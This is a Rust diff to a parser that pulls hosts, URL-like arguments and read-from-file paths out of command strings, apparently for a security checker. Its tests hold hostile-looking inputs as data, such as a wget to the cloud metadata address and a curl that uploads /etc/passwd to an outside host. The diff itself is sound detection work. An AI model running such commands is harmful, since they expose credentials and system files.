@@ -251,7 +251,39 @@ fn item_members(item: &str, spaced_keys: bool, nested_ok: bool, members: &mut Ve
             // `http:/127.0.0.1/`: curl and WHATWG parsers take one slash.
             members.push(member("url", item));
         } else {
-            members.extend(curl_addresses(item).into_iter().map(|a| member("host", a)));
+            let addresses = curl_addresses(item);
+            let bare_address = address_like(item) || numeric_host(item).is_some();
+            // `main:app`, `mailto:x`: a scheme with no `/` after it names
+            // no fetch here (`localhost:8080/x` has a port).
+            let scheme_word = item.split_once(':').is_some_and(|(scheme, rest)| {
+                scheme.starts_with(|c: char| c.is_ascii_alphabetic())
+                    && scheme
+                        .chars()
+                        .all(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '.' | '-'))
+                    && !rest.starts_with(|c: char| c.is_ascii_digit())
+            });
+            // A curl `--resolve` field that names no address curl takes
+            // (`a.example:443:0273.0271.022.0272`) is no URL.
+            let mut parts = item.splitn(3, ':');
+            let curl_field = matches!(
+                (parts.next(), parts.next(), parts.next()),
+                (Some(_), Some(port), Some(_))
+                    if !port.is_empty() && port.chars().all(|c| c.is_ascii_digit())
+            );
+            if addresses.is_empty()
+                && !bare_address
+                && !scheme_word
+                && !curl_field
+                && (looks_like_url(item) || item.contains('%'))
+            {
+                // A word that is a URL as an argument alone is
+                // (`169.254.169.254/latest`, `localhost:8080/x`,
+                // `//10.0.0.1/`, `:8080/x`): checked as an `argv`
+                // element is, in a plain place. A bare address is an
+                // argument like any other (`grep 127.0.0.1`).
+                members.push(member("arg", item));
+            }
+            members.extend(addresses.into_iter().map(|a| member("host", a)));
         }
         return;
     };
@@ -284,6 +316,14 @@ fn item_members(item: &str, spaced_keys: bool, nested_ok: bool, members: &mut Ve
     let value = unbraced.as_deref().unwrap_or(value);
     if nested_ok && value.contains('=') {
         item_members(value, false, false, members);
+    }
+    // A file a program reads for the value (curl's `-F f=@/etc/passwd`,
+    // `-d @/x`, `f=</x`, HTTPie's `f@/x` is a word): its path checked.
+    if let Some(file) = value
+        .strip_prefix(['@', '<'])
+        .filter(|f| f.starts_with(['/', '\\', '~', '.']) || f.get(1..2) == Some(":"))
+    {
+        members.push(member("path", file.split(';').next().unwrap_or(file)));
     }
     let folded: String = key
         .chars()
@@ -416,13 +456,14 @@ fn names_a_file(value: &str) -> bool {
 /// `(local)` and `(localdb)` are the local host (`localhost`). The same
 /// keys hold a list of hosts to MySqlConnector and Npgsql
 /// (`Server=a.example,127.0.0.1`): each element after the first that is
-/// no port (a number below 65536) is a host too. At most as many hosts as the value has `,`.
+/// no port (a number from 1 to 65535) is a host too (`,0`, `,00` is
+/// 0.0.0.0). At most as many hosts as the value has `,`.
 fn sql_server_hosts(value: &str) -> Vec<String> {
     let mut hosts = Vec::new();
     for (i, element) in value.split(',').enumerate() {
         let mut v = element.trim();
         // A port (`,1433`): a number no port is (`,2130706433`) is a host.
-        if i > 0 && (v.is_empty() || v.parse::<u16>().is_ok()) {
+        if i > 0 && (v.is_empty() || v.parse::<u16>().is_ok_and(|p| p > 0)) {
             continue;
         }
         for protocol in ["tcp:", "np:", "lpc:", "admin:"] {
@@ -664,6 +705,7 @@ mod tests {
             ),
             ("Data Source=a.example,10.0.0.5,1433", "host", "10.0.0.5"),
             ("Database=x;Failover Partner=127.1", "host", "127.1"),
+            ("Server=example.com,00;Database=x", "host", "00"),
             // A3: a TNS descriptor after a key or a user.
             (
                 "Data Source=(DESCRIPTION=(ADDRESS=(PROTOCOL=TCP)(HOST=127.0.0.1)(PORT=1521)))",
@@ -719,6 +761,67 @@ mod tests {
                 .filter_map(|m| m.get("host"))
                 .collect();
             assert!(hosts.iter().all(|h| *h == "db"), "{text:?}: {items}");
+        }
+    }
+
+    /// Attack s52, A7 and A17: a word that is a URL alone is an argument
+    /// checked as an `argv` element is; a file curl reads for a value is a
+    /// path.
+    #[test]
+    fn url_words_and_value_files() {
+        for (text, key, value) in [
+            (
+                "wget -qO- 169.254.169.254/latest/meta-data/",
+                "arg",
+                "169.254.169.254/latest/meta-data/",
+            ),
+            (
+                "-s //169.254.169.254/latest",
+                "arg",
+                "//169.254.169.254/latest",
+            ),
+            ("-s localhost:8080/admin", "arg", "localhost:8080/admin"),
+            ("-s [::1]:80/x", "arg", "[::1]:80/x"),
+            ("http :8080/admin", "arg", ":8080/admin"),
+            (
+                "curl http%3A%2F%2F127.0.0.1%2F",
+                "arg",
+                "http%3A%2F%2F127.0.0.1%2F",
+            ),
+            (
+                "-F file=@/etc/passwd https://example.com/",
+                "path",
+                "/etc/passwd",
+            ),
+            (
+                "-F file=</etc/passwd;type=text/plain",
+                "path",
+                "/etc/passwd",
+            ),
+            ("--data=@../secret", "path", "../secret"),
+        ] {
+            let items = settings_items(text).unwrap_or_default();
+            assert!(
+                items
+                    .as_array()
+                    .into_iter()
+                    .flatten()
+                    .any(|m| m.get(key).and_then(Value::as_str) == Some(value)),
+                "{text:?}: {items}"
+            );
+        }
+        for text in [
+            "--mention=@alice",
+            "grep -rn 127.0.0.1 src/",
+            "make all",
+            "uvicorn main:app",
+            "--resolve a.example:443:0273.0271.022.0272",
+        ] {
+            let items = settings_items(text).unwrap_or_default();
+            assert!(
+                !items.to_string().contains("\"path\"") && !items.to_string().contains("\"arg\""),
+                "{text:?}: {items}"
+            );
         }
     }
 }
